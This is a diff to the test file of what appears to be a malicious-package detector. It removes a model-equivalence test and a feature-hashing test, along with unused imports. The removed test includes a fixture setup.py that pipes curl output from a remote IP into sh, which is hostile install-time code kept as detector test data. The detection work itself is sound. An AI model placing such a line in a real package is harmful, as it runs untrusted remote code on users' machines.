@@ -6,16 +6,13 @@ from __future__ import annotations
 import gzip
 import json
 import random
-import string
 
 import numpy as np
-import pytest
-from code_fixtures import BENIGN_PKG, MISS_HATCH_HOOK, MISS_SETUP_IMPORT
+from code_fixtures import BENIGN_PKG
 
 from detector.code import scan_files
-from detector.code.analyze import analyze, operator_density, rule_score
+from detector.code.analyze import analyze, operator_density
 from detector.code.corpus import CORPUS_FILE_CHARS, read_all
-from detector.code.model import shipped_model
 from detector.code.train import TrainConfig, make_estimator, sample_weights
 from detector.policy import load_policy
 
@@ -81,38 +78,6 @@ def test_dense_thresholds_come_from_the_policy(tmp_path):
     policy.write_text("[code]\ndense_code_ratio = 0.99\n")
     found = analyze({"setup.py": _obfuscated_arithmetic(40_000)}, policy=load_policy(policy))
     assert "dense-code" not in {f.rule for f in found.findings}
-
-
-@pytest.fixture(scope="module")
-def model():
-    loaded = shipped_model()
-    if loaded is None:
-        pytest.skip("no shipped model")
-    return loaded
-
-
-def test_fast_prediction_equals_scikit_learn(model):
-    packages = [BENIGN_PKG, MISS_SETUP_IMPORT, MISS_HATCH_HOOK,
-                {"setup.py": _obfuscated_arithmetic(20_000)},
-                {"setup.py": "import os\nos.system('curl http://203.0.113.9/x | sh')\n"},
-                {"README.md": "nothing to see"}]
-    rows = []
-    for files in packages:
-        a = analyze(files)
-        rows.append((a.findings, a.tokens, rule_score(a.findings)))
-    reference = model.predict_many(rows)
-    fast = np.array([model.predict(*row) for row in rows])
-    assert np.allclose(fast, reference, atol=1e-12, rtol=0)
-    assert len(set(np.round(fast, 6))) > 2  # not a constant
-
-
-def test_token_buckets_match_the_feature_hasher(model):
-    rng = random.Random(5)
-    tokens = ["".join(rng.choice(string.printable) for _ in range(rng.randint(1, 40)))
-              for _ in range(3000)] + ["hot|c:os.system", "é∂ unicode", ""]
-    matrix = model._hasher.transform([[t] for t in tokens]).tocoo()
-    expected = dict(zip(matrix.row.tolist(), matrix.col.tolist(), strict=True))
-    assert all(model.bucket(t) == expected[i] for i, t in enumerate(tokens))
 
 
 def test_calibration_folds_keep_both_classes_when_one_cluster_dominates():
